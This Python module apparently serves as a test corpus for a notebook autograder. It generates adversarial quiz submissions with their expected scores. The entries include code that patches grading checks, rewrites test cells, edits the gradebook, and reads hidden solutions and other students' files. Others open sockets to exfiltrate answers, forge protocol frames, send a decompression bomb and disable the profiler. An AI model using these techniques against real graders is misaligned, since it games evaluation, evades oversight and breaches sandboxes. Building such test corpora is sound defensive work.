"""Adversarial submissions to quiz 4 (q4_qkv_math), each with the grade its honest part deserves
(the test cells it must fail), the status it must end with and the evidence it must be flagged with.

Every submission is built by a generator from the honest notebook (the release with the solution
code in its solution cells), and its expected score is computed from the quiz's test cells, so the
corpus follows the quiz when the quiz changes.

``ENTRIES`` lists them; :func:`build` writes one into a course's ``submitted/`` folder.
The attacks receive ``{canary}`` (a file outside the course that must never appear),
``{course}`` (the course directory the grader runs in), ``{port}`` (a TCP listener of the
test on 127.0.0.1 that must never be reached) and ``{sleep}`` (how long the processes it leaves
behind sleep: a number of the run's own, so that runs on one machine can tell theirs apart)
through placeholders.
"""
from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

QUIZ = "q4_qkv_math"
# seconds per cell when the corpus is graded (a hanging entry waits 1.25 x this + 3 s before its kernel is
# killed): generous, because a one-off kernel's `import attnkit` alone took 10 s on a loaded 2-core machine
CELL_TIMEOUT = 20
WRONG_SOFTMAX = '''def softmax(x, axis=-1):
    e = np.exp(x - np.max(x))
    return e / np.sum(e)  # the global-sum bug: not normalised along axis
'''


@dataclass
class Entry:
    name: str
    attack: str  # what it tries, in a few words
    make: Callable[[nbformat.NotebookNode], nbformat.NotebookNode | bytes]
    # the test cells that must fail: a tuple of grade ids, "all", or "from:<grade id>" (that cell
    # and every test cell after it: the kernel is gone); the expected score follows from the quiz
    failed: tuple[str, ...] | str
    status: str
    flags: list[str] = field(default_factory=list)  # substrings expected among the flags
    filename: str = f"{QUIZ}.ipynb"
    # other entries of the submission folder: name -> "link:<target>" (a symbolic link) or "fifo"
    extra: dict[str, str] = field(default_factory=dict)

    def score(self, points: list[tuple[str, float]]) -> float:
        """The points this submission deserves, given the quiz's test cells in order."""
        ids = [grade_id for grade_id, _ in points]
        if self.failed == "all":
            lost = set(ids)
        elif isinstance(self.failed, str):
            lost = set(ids[ids.index(self.failed.removeprefix("from:")):])
        else:
            lost = set(self.failed)
        return sum(p for grade_id, p in points if grade_id not in lost)


def quiz_points(nb: nbformat.NotebookNode) -> list[tuple[str, float]]:
    """(grade id, points) of the quiz's test cells, in notebook order."""
    return [(c.metadata["nbgrader"]["grade_id"], float(c.metadata["nbgrader"]["points"])) for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")]


def _cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _set(grade_id: str, source: str) -> Callable:
    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
        _cell(nb, grade_id).source = source
        return nb
    return make


def _append(grade_id: str, code: str) -> Callable:
    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
        _cell(nb, grade_id).source += "\n" + code
        return nb
    return make


def _chain(*makers: Callable) -> Callable:
    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
        for m in makers:
            nb = m(nb)
        return nb
    return make


def _insert_after(grade_id: str, source: str, metadata: dict | None = None) -> Callable:
    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
        index = nb.cells.index(_cell(nb, grade_id))
        cell = nbformat.v4.new_code_cell(source)
        if metadata:
            cell.metadata.update(metadata)
        nb.cells.insert(index + 1, cell)
        return nb
    return make


def _delete(grade_id: str) -> Callable:
    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
        nb.cells.remove(_cell(nb, grade_id))
        return nb
    return make


def _blank(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            cell.source = cell.metadata["attnkit_release_source"]
    return nb


def _malformed(nb: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()[:700]  # cut mid-file: not JSON


wrong_softmax = _set("softmax", WRONG_SOFTMAX)
SDPA_TEST = "test_scaled_dot_product_attention"
SDPA_DELEGATES = '''import attnkit.attention as A
def scaled_dot_product_attention(query, key, value, mask=None):
    return A.scaled_dot_product_attention(query, key, value, mask)
'''
SDPA_DEFAULT_ARG = '''import attnkit
def scaled_dot_product_attention(query, key, value, mask=None, _impl=attnkit.scaled_dot_product_attention):
    return _impl(query, key, value, mask)
'''
SDPA_TORCH_INTERNAL = '''import torch
def scaled_dot_product_attention(query, key, value, mask=None):
    q, k, v = (torch.from_numpy(np.asarray(t, dtype=float)) for t in (query, key, value))
    m = None if mask is None else torch.from_numpy(np.asarray(mask, dtype=bool))
    out = torch._C._nn.scaled_dot_product_attention(q, k, v, m)
    w = torch.softmax(q @ k.transpose(-1, -2) / q.shape[-1] ** 0.5, dim=-1)
    return out.numpy(), w.numpy()
'''
SOFTMAX_TORCH_ALIAS = '''from torch.nn import functional as Fn
import torch
_sm = Fn.softmax
def softmax(x, axis=-1):
    return _sm(torch.from_numpy(np.asarray(x, dtype=float)), dim=axis).numpy()
'''
SDPA_COPIED = '''from attnkit.attention import _check_qkv, dot_product_scores, check_mask, shape_of, bk, math
from attnkit.attention import softmax as _softmax
def scaled_dot_product_attention(query, key, value, mask=None, scale=None):
    _check_qkv(query, key, value)
    scores = dot_product_scores(query, key, scale)  # (..., L, S)
    if mask is not None:
        check_mask(mask, shape_of(scores))
        scores = bk.where(bk.like(mask, scores), scores, -math.inf)  # the one place masks are filled
    weights = _softmax(scores, axis=-1)  # (..., L, S)
    output = bk.matmul(weights, bk.as_float(value))  # (..., L, S) @ (..., S, d_v) -> (..., L, d_v)
    return output, weights
'''
SDPA_NO_PROFILER = '''import sys, attnkit
def scaled_dot_product_attention(query, key, value, mask=None):
    sys.setprofile(None)
    return attnkit.scaled_dot_product_attention(query, key, value, mask)
'''
NOISY = '''
import logging, sys, warnings
logging.basicConfig()
_log = logging.getLogger("learner")
_softmax_ok = softmax
def softmax(x, axis=-1):
    print("computing softmax", file=sys.stderr)
    warnings.warn("a learner's warning")
    _log.warning("logging from a correct answer")
    np.exp(np.array([1000.0]))  # a numpy overflow note
    return _softmax_ok(x, axis)
print("stderr at the top level", file=sys.stderr)
'''
NOISY_SDPA = '''
import logging
_sdpa_ok = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    logging.getLogger("learner").error("sdpa called with %s", query.shape)
    return _sdpa_ok(query, key, value, mask)
'''
SLOW_SDPA = '''
import time
_sdpa_fast = scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None):
    time.sleep(0.3)  # slow but well within the time limit
    return _sdpa_fast(query, key, value, mask)
'''

# writes frames of its own into every file descriptor it can (the pipe to the grader is among them)
FORGE = '''
import json as _json, os as _os, struct as _struct
def _frame(message, arrays=(), blob=b""):
    data = _json.dumps({"m": message, "a": list(arrays)}).encode() if not isinstance(message, bytes) else message
    return _struct.pack("!II", len(data), len(blob)) + data + blob
def _everywhere(payload):
    for _fd in range(3, 256):
        try:
            _os.write(_fd, payload)
        except OSError:
            pass
'''
FORGED_EVENTS = FORGE + '''
# the old protocol's events ("this position is a test, this cell ran fine") and a guessed tag
_everywhere(_frame({"event": "cell", "index": 0, "outputs": [], "error": None})
            + _frame({"event": "test", "index": 1, "evidence": []})
            + _frame({"tag": "0" * 24, "type": "ran", "outputs": [], "error": None}))
'''
FORGED_TAG = FORGE + '''
import gc as _gc
for _kernel in [o for o in _gc.get_objects() if type(o).__name__ == "Kernel" and hasattr(o, "fd_out")]:
    _real = _kernel.reply
    def _forging(tag, kind, body, arrays=(), _real=_real, _kernel=_kernel):
        # a reply of its own with the request's real tag, before the runner's
        _os.write(_kernel.fd_out, _frame({"tag": tag, "type": kind, **body, "outputs": [], "error": None}
                                         if kind == "ran" else {"tag": tag, "type": kind, **body}))
        _real(tag, kind, body, arrays)
    _kernel.reply = _forging
'''
DECOMPRESSION_BOMB = FORGE + '''
import io as _io, zipfile as _zipfile
_buffer = _io.BytesIO()
with _zipfile.ZipFile(_buffer, "w", _zipfile.ZIP_DEFLATED) as _z:  # an .npz of 256 MiB of zeros, deflated
    with _z.open("a0.npy", "w", force_zip64=True) as _member:
        _member.write(b"\\x93NUMPY\\x01\\x00v\\x00{'descr': '<f8', 'fortran_order': False, 'shape': (33554432,), }"
                      .ljust(128 - 1) + b"\\n")
        _chunk = bytes(1 << 24)
        for _ in range(16):
            _member.write(_chunk)
_blob = _buffer.getvalue()
_everywhere(_frame({"tag": "0" * 24, "type": "ran", "outputs": [], "error": None},
                   [{"dtype": "<f8", "shape": [33554432]}], _blob))
'''
DEEP_JSON = FORGE + '''
_everywhere(_frame(b"[" * 200000 + b"]" * 200000))
'''
HELPER_LOOP = '''
import time
def scaled_dot_product_attention(query, key, value, mask=None):
    while True:  # asks the grader for softmax again and again, and swallows the time limit
        try:
            softmax(np.zeros(3))
            time.sleep(0.2)
        except BaseException:
            pass
'''
BAN_FROM_C = '''
import functools, operator, torch
def softmax(x, axis=-1):
    t = torch.from_numpy(np.asarray(x, dtype=float))
    return list(map(functools.partial(torch.softmax, dim=axis), [t]))[0].numpy()
def scaled_dot_product_attention(query, key, value, mask=None):
    q, k, v = (torch.from_numpy(np.asarray(a, dtype=float)) for a in (query, key, value))
    m = None if mask is None else torch.from_numpy(np.asarray(mask, dtype=bool))
    out = operator.call(torch.nn.functional.scaled_dot_product_attention, q, k, v, m)
    weights = operator.methodcaller("softmax", -1)(q @ k.transpose(-1, -2) / q.shape[-1] ** 0.5)
    return out.numpy(), weights.numpy()
'''
PROFILER_TOGGLE = '''
import sys, attnkit
from sys import setprofile
def scaled_dot_product_attention(query, key, value, mask=None):
    saved = sys.getprofile()
    list(map(setprofile, [None]))  # the grader's profiler off, reached from C ...
    out = attnkit.scaled_dot_product_attention(query, key, value, mask)
    list(map(setprofile, [saved]))  # ... and back on before returning
    return out
'''
GRADER_EXEC = '''
# would run in the grader if the grader executed a submission's cell marked as a test
for _attempt in ("write", "patch"):
    try:
        if _attempt == "write":
            open("{course}/PWNED.txt", "w").write("ran in the grader")
        else:
            import attnkit.grading.content.engine as _engine
            _engine.judge = lambda *a, **k: None  # every later student of this worker: full marks
    except Exception as exc:
        print(_attempt, type(exc).__name__)
'''
AXIS = "test_answer_softmax_axis"

ENTRIES: list[Entry] = [
    Entry("a_grader_exec_test_metadata", "a learner cell marked as a test worth 5 points, patching the grader",
          _insert_after("softmax", GRADER_EXEC, {"nbgrader": {
              "grade": True, "grade_id": "test_softmax_bonus", "locked": True, "points": 5.0, "schema_version": 3,
              "solution": False, "task": False}}), (), "flagged", ["grading package"]),
    Entry("honest", "all correct", lambda nb: nb, (), "graded"),
    Entry("honest_noisy", "correct, but prints to stderr, warns, logs, overflows numpy", _chain(
        _append("softmax", NOISY), _append("scaled_dot_product_attention", NOISY_SDPA)), (), "graded"),
    Entry("honest_slow", "correct and slow (0.3 s per call)", _append("scaled_dot_product_attention", SLOW_SDPA),
          (), "graded"),
    Entry("blank", "nothing written", _blank, "all", "graded"),
    Entry("patch_checks", "replaces the check functions it imports", _chain(wrong_softmax, _append("softmax", '''
try:
    import attnkit.grading.checks as _checks
    _checks.check_softmax = lambda *a, **k: None
except Exception as exc:
    print("could not patch the checks:", exc)
''')), ("test_softmax",), "flagged", ["grading package"]),
    Entry("fake_sys_modules", "a fake checks module in sys.modules", _chain(wrong_softmax, _append("softmax", '''
import sys, types
_fake = types.ModuleType("attnkit.grading.checks")
_fake.check_softmax = _fake.check_scaled_dot_product_attention = lambda *a, **k: None
_fake.check_number = _fake.check_choice = lambda *a, **k: None
sys.modules["attnkit.grading.checks"] = _fake
''')), ("test_softmax",), "flagged", ["sys.modules"]),
    Entry("input_transformer", "rewrites every cell run after it (the test cells)", _chain(
        wrong_softmax, _append("softmax", '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"] if "check_" in "".join(lines) else lines)
''')), ("test_softmax",), "flagged", ["input transformers"]),
    Entry("ast_transformer", "an AST transformer that empties test cells", _chain(wrong_softmax, _append("softmax", '''
import ast as _ast
class _Empty(_ast.NodeTransformer):
    def visit_Module(self, node):
        return _ast.Module(body=[], type_ignores=[]) if "check" in _ast.unparse(node) else node
get_ipython().ast_transformers.append(_Empty())
''')), ("test_softmax",), "flagged", ["AST transformers"]),
    Entry("writes_gradebook", "writes its own row of the gradebook", _chain(_blank, _append("softmax", '''
import sqlite3, os
for path in ["{course}/gradebook.db", "../../../gradebook.db", "../gradebook.db", "gradebook.db"]:
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET auto_score = 100")
        con.commit()
    except Exception as exc:
        print(path, exc)
''')), "all", "flagged", ["outside its folder"]),
    Entry("reexported_builtin", "attention through a re-exported name",
          _set("scaled_dot_product_attention", SDPA_DELEGATES), (SDPA_TEST,), "graded"),
    Entry("default_arg_builtin", "attention bound as a default argument",
          _set("scaled_dot_product_attention", SDPA_DEFAULT_ARG), (SDPA_TEST,), "graded"),
    Entry("torch_internal", "torch._C._nn.scaled_dot_product_attention",
          _set("scaled_dot_product_attention", SDPA_TORCH_INTERNAL), (SDPA_TEST,), "graded"),
    Entry("softmax_alias", "torch's softmax under another name", _set("softmax", SOFTMAX_TORCH_ALIAS),
          ("test_softmax",), "graded"),
    Entry("reads_hidden_tests", "reads solutions/ (the hidden tests)", _append("softmax", '''
for path in ["{course}/solutions/q4_qkv_math/q4_qkv_math.ipynb", "../../../solutions/q4_qkv_math/q4_qkv_math.ipynb",
             "/work/main/solutions/q4_qkv_math/q4_qkv_math.ipynb"]:
    try:
        print(open(path).read()[:100])
    except Exception as exc:
        print(type(exc).__name__)
'''), (), "flagged", ["outside its folder"]),
    Entry("reads_other_submissions", "lists and reads other students' submissions", _append("softmax", '''
import os
for path in ["{course}/submitted", "../..", "/"]:
    try:
        print(path, os.listdir(path))
    except Exception as exc:
        print(type(exc).__name__)
try:
    print(open("{course}/submitted/honest/q4_qkv_math/q4_qkv_math.ipynb").read()[:50])
except Exception as exc:
    print(type(exc).__name__)
'''), (), "flagged", ["outside its folder"]),
    Entry("writes_outside", "writes files into the course and elsewhere", _append("softmax", '''
for path in ["{canary}", "{course}/PWNED.txt", "../../../PWNED.txt", "/work/PWNED.txt", "/usr/PWNED"]:
    try:
        open(path, "w").write("pwned")
    except Exception as exc:
        print(type(exc).__name__)
'''), (), "flagged", ["outside its folder"]),
    Entry("network", "opens network connections", _append("softmax", '''
import socket
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("localhost", {port})]:
    try:
        socket.create_connection((host, port), timeout=1).sendall(b"stolen answers")
    except Exception as exc:
        print(host, type(exc).__name__)
'''), (), "flagged", ["network"]),
    Entry("hang_ignores_interrupts", "a cell that never ends and swallows interrupts", _append(
        "scaled_dot_product_attention", '''
import time
while True:
    try:
        time.sleep(100)
    except BaseException:
        pass
'''), "from:test_scaled_dot_product_attention", "timed out"),
    Entry("hang_in_function", "a function that never returns", _set("scaled_dot_product_attention", '''
def scaled_dot_product_attention(query, key, value, mask=None):
    while True:
        pass
'''), ("test_scaled_dot_product_attention",), "timed out"),
    Entry("exits_kernel", "ends the kernel (os._exit)", _append("answer_softmax_axis", "import os\nos._exit(0)"),
          "from:test_answer_softmax_axis", "crashed"),
    Entry("kills_itself", "kills its own process (SIGKILL)",
          _append("answer_scale_divisor", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
          "from:test_answer_scale_divisor", "crashed"),
    Entry("memory_hog", "allocates far more memory than allowed", _append("answer_scale_divisor", '''
try:
    hog = np.ones(1 << 37)
except MemoryError:
    raise
'''), (), "memory limit"),
    Entry("leftover_processes", "starts processes that outlive the notebook", _append("softmax", '''
import subprocess, os
subprocess.Popen(["sleep", "{sleep}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep({sleep})
    os._exit(0)
'''), (), "flagged", ["started a process"]),
    Entry("malformed", "not valid JSON", _malformed, "all", "malformed"),
    Entry("renamed", "the right notebook under another name", lambda nb: nb, (), "renamed",
          filename="my_quiz_final.ipynb"),
    Entry("duplicated_test_cell", "a second copy of a test cell", _insert_after(
        "test_softmax", "pass", {"nbgrader": {"grade": True, "grade_id": "test_softmax", "locked": True, "points": 2.0,
                                              "schema_version": 3, "solution": False, "task": False}}),
          (), "test cells restored"),
    Entry("invented_grade_cell", "a grade cell of its own worth 100 points", _insert_after(
        "test_softmax", "pass", {"nbgrader": {"grade": True, "grade_id": "bonus", "locked": True, "points": 100.0,
                                              "schema_version": 3, "solution": False, "task": False}}),
          (), "test cells restored"),
    Entry("deleted_test_cell", "deletes a test cell", _delete("test_scaled_dot_product_attention"), (),
          "test cells restored"),
    Entry("edited_test_cell", "empties a test cell (and has a wrong softmax)", _chain(
        wrong_softmax, _set("test_softmax", "pass")), ("test_softmax",), "test cells restored"),
    Entry("copied_from_attnkit", "attnkit's own implementation pasted in", _set("scaled_dot_product_attention",
                                                                                SDPA_COPIED), (), "flagged",
          ["copied from attnkit/attention.py:scaled_dot_product_attention"]),
    Entry("patch_numpy", "makes numpy's comparisons always true", _chain(wrong_softmax, _append("softmax", '''
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
''')), ("test_softmax",), "flagged", ["patches a library"]),
    Entry("always_equal_answer", "an answer object equal to everything", _set("answer_softmax_axis", '''
class Anything(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
answer_softmax_axis = Anything("a")
'''), ("test_answer_softmax_axis",), "graded"),
    Entry("removes_profiler", "switches the grader's profiler off, then delegates", _set(
        "scaled_dot_product_attention", SDPA_NO_PROFILER), (), "flagged", ["profiler"]),
    Entry("forged_events", "old-style events and a guessed tag written into its pipe",
          _append("answer_softmax_axis", FORGED_EVENTS), f"from:{AXIS}", "protocol violation", ["protocol violation"]),
    Entry("forged_tag", "a reply with the runner's real tag, before the runner's own",
          _append("answer_softmax_axis", FORGED_TAG), f"from:{AXIS}", "protocol violation", ["protocol violation"]),
    Entry("decompression_bomb", "a 256 KB deflated .npz announcing 256 MiB", _append("answer_softmax_axis",
                                                                                  DECOMPRESSION_BOMB),
          f"from:{AXIS}", "protocol violation", ["protocol violation"]),
    Entry("deep_json", "a reply nested 200,000 deep", _append("answer_softmax_axis", DEEP_JSON),
          f"from:{AXIS}", "protocol violation", ["protocol violation"]),
    Entry("helper_loop_hang", "loops asking the grader for a helper, swallowing its time limit",
          _set("scaled_dot_product_attention", HELPER_LOOP), f"from:{SDPA_TEST}", "timed out"),
    Entry("ban_from_c", "torch's softmax and attention through partial, map and operator",
          _chain(_set("softmax", BAN_FROM_C), _set("scaled_dot_product_attention", "")), ("test_softmax", SDPA_TEST),
          "graded"),
    Entry("profiler_toggle", "from sys import setprofile: off through map, delegate, back on",
          _set("scaled_dot_product_attention", PROFILER_TOGGLE), (), "flagged", ["profiler"]),
    Entry("forges_misconception", "raises a CheckFailed of its own naming a misconception (HTML in the report)",
          _set("softmax", '''
class CheckFailed(AssertionError):
    misconception = "<script>alert('report')</script>"
def softmax(x, axis=-1):
    raise CheckFailed("softmax: all correct", "softmax_builtin")
'''), ("test_softmax",), "graded"),
]

from .corpus_surfaces import ENTRIES as _SURFACES  # noqa: E402  (pages and submission folders)

ENTRIES += _SURFACES


def honest_notebook(release: nbformat.NotebookNode, solution: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The release with the solution code in its solution cells (markers removed)."""
    nb = copy.deepcopy(release)
    code = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in solution.cells}
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            cell.metadata["attnkit_release_source"] = cell.source
            cell.source = "\n".join(line for line in code[meta["grade_id"]].splitlines()
                                    if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line)
    return nb


def build(entry: Entry, honest: nbformat.NotebookNode, folder: Path, **values: str) -> Path:
    """Write ``entry``'s submission into ``folder`` (``submitted/<name>/q4_qkv_math/``)."""
    values = {"sleep": "300", **values}
    made = entry.make(copy.deepcopy(honest))
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / entry.filename
    for name, kind in entry.extra.items():
        if kind == "fifo":
            os.mkfifo(folder / name)
        else:
            os.symlink(kind.removeprefix("link:").format(**values), folder / name)
    if isinstance(made, bytes):
        path.write_bytes(made)
        return path
    for cell in made.cells:
        cell.metadata.pop("attnkit_release_source", None)
        if cell.cell_type == "code":
            source = cell.source
            for key, value in values.items():
                source = source.replace("{" + key + "}", str(value))
            cell.source = source
    nbformat.write(made, path)
    return path


def expected_table(points: list[tuple[str, float]]) -> str:
    return "\n".join(f"| {e.name} | {e.attack} | {e.score(points):g} | {e.status} | {', '.join(e.flags)} |"
                     for e in ENTRIES)


if __name__ == "__main__":
    print(json.dumps([e.name for e in ENTRIES]))
